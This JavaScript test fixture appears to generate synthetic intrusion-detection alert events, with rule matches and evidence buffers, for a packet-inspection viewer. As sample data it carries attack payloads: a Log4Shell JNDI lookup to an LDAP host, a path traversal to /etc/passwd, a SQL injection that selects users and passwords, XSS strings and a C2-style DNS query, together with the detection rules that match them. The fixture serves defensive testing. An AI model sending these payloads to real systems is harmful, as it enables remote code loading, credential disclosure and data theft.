// Single events of the fixture, with evidence.

const b64 = (text) => Buffer.from(text, 'latin1').toString('base64');

const KINDS = {
  post: () => {
    const header =
      'Host: frontend.shop\r\nUser-Agent: Mozilla/4.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 8\r\n';
    const at = header.indexOf('User-Agent: Mozilla/4.0\r\n');
    return {
      buffers: [
        ['http_method', 'POST'],
        ['http_header', header],
        ['http_client_body', 'smk=1234'],
      ],
      matches: [
        [1, 'content:"POST"', 'http_method', 0, 4],
        [2, 'content:"User-Agent: Mozilla/4.0|0D 0A|"', 'http_header', at, 25],
        [3, 'content:"smk=",depth 4', 'http_client_body', 0, 4],
      ],
      payload: `POST /gate.php HTTP/1.1\r\n${header}\r\nsmk=1234`,
      http: {
        method: 'POST',
        uri: '/gate.php',
        version: '1.1',
        host: 'frontend.shop',
        user_agent: 'Mozilla/4.0',
        content_type: 'application/x-www-form-urlencoded',
        status: 200,
      },
    };
  },
  jndi: () => ({
    buffers: [['http_uri', '/login?next=${jndi:ldap://198.51.100.23:1389/a}']],
    matches: [[1, 'content:"${jndi:",nocase', 'http_uri', 12, 7]],
    payload: 'GET /login?next=${jndi:ldap://198.51.100.23:1389/a} HTTP/1.1\r\nHost: pay.example\r\n\r\n',
    http: {
      method: 'GET',
      uri: '/login?next=${jndi:ldap://198.51.100.23:1389/a}',
      version: '1.1',
      host: 'pay.example',
      status: 404,
    },
  }),
  passwd: (k) => ({
    buffers: [['http_uri', `/static/..%2f..%2f/etc/passwd?n=${k}`]],
    matches: [[1, 'content:"/etc/passwd",nocase', 'http_uri', 18, 11]],
    payload: `GET /static/..%2f..%2f/etc/passwd?n=${k} HTTP/1.1\r\nHost: cart\r\nUser-Agent: ZAP/2.15\r\n\r\n`,
    http: {
      method: 'GET',
      uri: `/static/..%2f..%2f/etc/passwd?n=${k}`,
      version: '1.1',
      host: 'cart',
      user_agent: 'ZAP/2.15',
      status: 403,
    },
  }),
  dns: () => ({
    buffers: [['dns_query', 'c2.example.test']],
    matches: [[0, 'content:"c2."', 'dns_query', 0, 3]],
    payload: '\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00\x02c2\x07example\x04test\x00\x00\x10\x00\x01',
    dns: { name: 'c2.example.test', kind: 16, id: 4660, rcode: 0 },
  }),
  sql: () => ({
    buffers: [['http_uri', "/item?id=1' union select user,pass from users--"]],
    matches: [[1, 'content:"union select",nocase', 'http_uri', 12, 12]],
    payload:
      "GET /item?id=1' union select user,pass from users-- HTTP/1.1\r\nHost: shop\r\nX: <script>alert(1)</script>\r\n\r\n",
    http: {
      method: 'GET',
      uri: "/item?id=1' union select user,pass from users--",
      version: '1.1',
      host: 'shop',
      user_agent: '<script>alert(1)</script> \\u{202e}',
      status: 500,
    },
  }),
  binary: () => {
    const all = Array.from({ length: 300 }, (_, i) => String.fromCharCode((i * 37 + (i >> 3)) & 255)).join('');
    return {
      buffers: [['pkt_data', `\x00\x01\xe2\x80\xae<b>not bold</b>\x1b[31m${all}`]],
      matches: [
        [0, 'content:"|00 01|"', 'pkt_data', 0, 2],
        [1, 'content:"<b>"', 'pkt_data', 5, 3],
        [2, 'pcre:"/b.not/"', 'pkt_data', 6, 6],
      ],
      payload: `\x00\x01\xe2\x80\xae<b>not bold</b>\x1b[31m${all}`,
      tls: { sni: 'ledger.payments.svc', version: 'TLS 1.2' },
    };
  },
};

export function makeEvent(g, k) {
  const number = Number((BigInt(`0x${g.id}`) - 0x7a91000000000000n) / 0x10001n);
  const kind =
    g.sid === 21562 || g.sid === 3000077
      ? 'post'
      : g.sid === 3000001
        ? 'jndi'
        : g.sid === 1122
          ? 'passwd'
          : g.service === 'dns'
            ? 'dns'
            : g.service === 'http'
              ? 'sql'
              : 'binary';
  const made = KINDS[kind](k);
  const time = new Date(Date.parse(g.last_seen) - k * 47_000)
    .toISOString()
    .replace('Z', '999000Z')
    .replace(/(\.\d{3})\d*Z$/, '$1408000Z');
  const client = { ip: g.client.addresses[0], port: 51822 - (k % 9000) };
  const server = { ip: g.server.addresses[0], port: g.server_port ?? 80 };
  const workload = (p, pod) =>
    p.namespace
      ? {
          namespace: p.namespace,
          pod: `${p.name}-7f9c8b-${pod}`,
          owner_kind: p.kind,
          owner_name: p.name,
          service: p.name,
          labels: { app: p.name },
        }
      : undefined;
  return {
    id: `worker-3-12-${number * 10_000 + k}`,
    time,
    observed: time,
    packet_number: 7 + k,
    rule: {
      gid: g.gid,
      sid: g.sid,
      rev: g.rev,
      msg: g.msg,
      classtype: g.classtype,
      class: 'A Network Trojan was detected',
      priority: 1,
      references: [
        ['url', 'attack.mitre.org/techniques/T1071/001', 'https://attack.mitre.org/techniques/T1071/001'],
        ['bad', 'x', 'javascript:alert(1)'],
      ],
      metadata: [['created', '2026-11-24']],
      action: 'alert',
      text: '',
      place: 'tapir-starter.rules:14',
    },
    protocol: 'TCP',
    protocol_number: 6,
    generator: 'stream_tcp',
    direction: 'to_server',
    source: client,
    destination: server,
    client: workload(g.client, 'q2'),
    server: workload(g.server, 'x1'),
    inspection: g.inspection ? { namespace: g.inspection.split('/')[0], name: g.inspection.split('/')[1] } : undefined,
    service: g.service ?? undefined,
    packet_len: made.payload.length,
    truncated: false,
    wire: { vlan: 0 },
    flow: {
      id: 991 + k,
      start: new Date(Date.parse(time) - 840).toISOString(),
      client,
      server,
      packets: [6, 5],
      bytes: [812, 4410],
      missing: k % 5 === 4 ? [0, 1448] : [0, 0],
      midstream: false,
    },
    interface: 'cali0ab12f',
    session: { http: made.http, dns: made.dns, tls: made.tls },
    evidence: {
      buffers: made.buffers.map(([name, text]) => ({ name, offset: 0, b64: b64(text), length: text.length })),
      matches: made.matches.map(([option, text, buffer, offset, length]) => ({ option, text, buffer, offset, length })),
      payload_b64: b64(made.payload),
      payload_length: made.payload.length + (kind === 'binary' ? 5000 : 0),
      packet_linktype: 0,
    },
    rule_set: '9f3c02d17be81a40',
    severity: g.severity,
    level: g.level,
    group: g.id,
    shape: '4e22a20eb2591b6' + (k % g.shapes).toString(16),
    visibility: g.visibility,
    blind_spots: g.blind_spots,
    community_id: '1:wCb3OG7yAFWelaUydu0D+125CLM=',
  };
}

const WORDS = {
  http_method: 'method contains',
  http_header: 'headers contain',
  http_client_body: 'body, first bytes:',
  http_uri: 'address contains',
  dns_query: 'name asked for contains',
  pkt_data: 'payload contains',
};

export function makeWhy(g, event) {
  const options = event.evidence.matches.map((m) => {
    const buffer = event.evidence.buffers.find((b) => b.name === m.buffer);
    const bytes = Buffer.from(buffer.b64, 'base64')
      .subarray(m.offset, m.offset + m.length)
      .toString('latin1');
    return {
      index: m.option + 1,
      text: m.text,
      words: `${WORDS[m.buffer] ?? m.buffer} "${bytes}"`,
      outcome: 'matched',
      buffer: m.buffer,
      offset: m.offset,
      length: m.length,
    };
  });
  return {
    options: [
      {
        index: 0,
        text: 'flow:to_server,established',
        words: 'established, client to server',
        outcome: 'not_recorded',
        buffer: null,
        offset: null,
        length: null,
      },
      ...options,
    ],
    rule_text: `alert http any any -> any any ( msg:"${g.msg}"; flow:to_server,established; ${event.evidence.matches.map((m) => `${m.buffer}; ${m.text};`).join(' ')} classtype:${g.classtype}; sid:${g.sid}; rev:${g.rev}; )`,
    references: [
      'https://attack.mitre.org/techniques/T1071/001',
      'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
      'javascript:alert(1)',
    ],
    mitre: g.mitre.map((m) => ({ ...m, url: `https://attack.mitre.org/techniques/${m.id.replace('.', '/')}` })),
    class: g.classtype,
    priority: 1,
  };
}

export function formatEvent(event, format) {
  if (format === 'fast' || format === 'cef')
    return `${event.time} [**] [1:${event.rule.sid}:${event.rule.rev}] "${event.rule.msg}" [**] {TCP} ${event.source.ip}:${event.source.port} -> ${event.destination.ip}:${event.destination.port}`;
  return JSON.stringify({
    id: event.id,
    type: 'deep_packet_inspection',
    origin: 'dpi.shop/frontend',
    severity: event.severity,
    source_ip: event.source.ip,
    dest_ip: event.destination.ip,
    record: { snort_signature_id: String(event.rule.sid) },
    format,
  });
}
